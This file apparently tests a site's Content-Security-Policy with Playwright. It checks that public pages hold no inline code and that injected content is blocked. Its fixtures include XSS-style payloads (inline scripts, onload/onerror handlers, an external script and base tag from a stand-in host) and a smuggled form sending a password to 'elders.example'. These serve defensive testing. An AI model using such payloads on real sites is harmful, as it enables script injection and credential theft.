"""The policy of the pages in a real browser: no page needs what it forbids, and what is smuggled in does not run."""

import asyncio

import pytest
from playwright.async_api import BrowserContext, Route

from tests.journeys.pages import every_place, settle
from tests.journeys.walk import Walk

pytestmark = pytest.mark.browser

PUBLIC = [place for place in every_place() if place.person is None]
# Remembers each violation from before the first line of the page on.
LISTEN = """
window.violations = [];
document.addEventListener('securitypolicyviolation', (found) =>
  window.violations.push(`${found.effectiveDirective} ${found.blockedURI} ${found.sourceFile ?? ''}`));
"""
# Code that stands in the page itself: what the policy has to forbid, and React never writes.
INLINE = """() => [...document.querySelectorAll('*')].flatMap((element) => [
  ...(element.localName === 'script' && !element.src && !/json/.test(element.type) ? ['a script in the page'] : []),
  ...element.getAttributeNames().filter((name) => name.startsWith('on')).map((name) => `${element.localName} ${name}`),
  ...['href', 'src', 'action'].filter((name) => /^\\s*javascript:/i.test(element.getAttribute(name) ?? '')),
])"""
# What somebody could bring into a page that forgets to escape: each would say so in `window.ran`.
SMUGGLED = {
    "a script in the page": ("script-src-elem", "<script>window.ran = true</script>"),
    "a handler": ("script-src-attr", "<img src='/favicon.svg' onload='window.ran = true'>"),
    "a script of another host": ("script-src-elem", "<script src='https://elders.example/x.js'></script>"),
    "a script as data": ("script-src-elem", "<script src='data:text/javascript,window.ran = true'></script>"),
    "another base": ("base-uri", "<base href='https://elders.example/'>"),
    "a frame of elsewhere": ("frame-src", "<iframe src='https://elders.example/'></iframe>"),
    "an object": ("object-src", "<object data='/favicon.svg'></object>"),
    "style in the page": ("style-src-elem", "<style>body { background: red }</style>"),
}


@pytest.fixture
async def listening(browser, site):
    """A visitor in whose pages every violation is remembered."""
    context: BrowserContext = await browser.new_context(base_url=site)
    await context.add_init_script(LISTEN)
    yield context
    await context.close()


@pytest.mark.parametrize("place", PUBLIC, ids=str)
async def test_a_public_page_breaks_no_rule_of_the_policy_and_holds_no_code(walk: Walk, listening, place):
    address = await walk.address_of(place)
    page = await listening.new_page()
    answer = await page.goto(address)
    assert "default-src 'self'" in answer.headers["content-security-policy"]
    await settle(page)
    assert await page.evaluate("window.violations") == []
    assert await page.evaluate(INLINE) == []


@pytest.mark.parametrize("kind", SMUGGLED)
async def test_what_is_smuggled_into_the_page_as_it_is_served_does_not_run(listening, kind):
    """The server's own answer with something added, as a hole in a template or a cache would."""
    directive, smuggled = SMUGGLED[kind]

    async def add(route: Route) -> None:
        answer = await route.fetch()
        body = (await answer.text()).replace("<head>", f"<head>{smuggled if '<base' in smuggled else ''}")
        body = body.replace("<body>", f"<body>{'' if '<base' in smuggled else smuggled}")
        assert smuggled in body
        await route.fulfill(response=answer, body=body)

    page = await listening.new_page()
    await page.route("**/toolbox", add)
    await page.goto("/toolbox")
    await page.wait_for_selector("h1")
    await page.wait_for_function("window.violations.length > 0")
    assert await page.evaluate("window.ran") is None
    assert any(found.startswith(directive) for found in await page.evaluate("window.violations"))


async def test_a_form_smuggled_into_the_page_sends_nothing_to_another_host(listening):
    """What somebody fills in would leave the site without any script."""
    page = await listening.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    await page.goto("/toolbox")
    await page.wait_for_selector("h1")
    await page.evaluate(
        """() => {
          const form = document.createElement('form');
          form.action = 'https://elders.example/';
          form.innerHTML = "<input name='password' value='geheim'><button>Verder</button>";
          document.querySelector('main').prepend(form);
        }"""
    )
    # Not by Playwright's own click, which would wait for the page that never comes.
    async with asyncio.timeout(30):
        await page.evaluate(
            """() => new Promise((refused) => {
              document.addEventListener('securitypolicyviolation', () => setTimeout(refused), { once: true });
              document.querySelector('main > form > button').click();
            })"""
        )
    assert [found.split()[0] for found in await page.evaluate("window.violations")] == ["form-action"]
    assert page.url.endswith("/toolbox")
    assert not [url for url in asked if "elders.example" in url]


async def test_what_a_script_of_ours_would_write_into_the_page_does_not_run(listening):
    """As a careless `innerHTML` would, and code made of text."""
    page = await listening.new_page()
    await page.goto("/toolbox")
    await page.wait_for_selector("h1")
    await page.evaluate(
        """() => {
          const box = document.createElement('div');
          box.innerHTML = "<img src='/nergens.png' onerror='window.ran = true'>";
          document.body.append(box);
          const script = document.createElement('script');
          script.textContent = 'window.ran = true';
          document.body.append(script);
          const link = document.createElement('a');
          link.href = 'javascript:window.ran = true';
          document.body.append(link);
          link.click();
        }"""
    )
    await page.wait_for_function("window.violations.length >= 3")
    assert await page.evaluate("window.ran") is None
    # A little later, when the page itself does it: what the tools of a browser ask is always allowed.
    await page.evaluate(
        """() => setTimeout(() => {
          try { window.made = new Function('return 1')(); } catch (refused) { window.refused = refused.name; }
        })"""
    )
    await page.wait_for_function("window.made || window.refused")
    assert await page.evaluate("[window.made, window.refused]") == [None, "EvalError"]
